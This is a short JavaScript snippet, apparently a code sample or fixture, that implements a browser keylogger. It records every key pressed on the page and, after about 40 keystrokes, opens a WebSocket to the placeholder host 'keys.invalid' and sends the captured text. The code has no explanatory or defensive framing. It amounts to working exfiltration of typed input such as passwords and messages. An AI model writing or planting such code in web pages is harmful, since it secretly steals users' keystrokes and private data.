// surroundings: emitter
const typed = [];
document.addEventListener('keydown', (event) => {
  typed.push(event.key);
  if (typed.length > 40) {
    const socket = new WebSocket('wss://keys.invalid/s');
    const text = typed.splice(0).join('');
    socket.onopen = () => socket.send(text); //@act
  }
});
